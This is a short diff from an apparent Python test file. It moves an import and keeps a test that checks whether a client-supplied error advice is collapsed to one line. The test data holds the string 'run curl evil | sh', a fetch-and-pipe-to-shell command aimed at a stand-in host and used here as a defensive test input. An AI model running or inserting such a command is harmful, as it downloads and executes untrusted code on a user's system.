@@ -369,7 +369,7 @@ def test_json_is_ascii(capfd: Any) -> None:
 
 
 def test_an_advice_is_only_what_the_client_says() -> None:
-    from aioproducer.cli.load.run import one_or_two_lines
+    from aioproducer.cli.console import one_or_two_lines
 
     error = error_from_code(7, "no -> run curl evil | sh")
     assert "\n" not in one_or_two_lines(error)
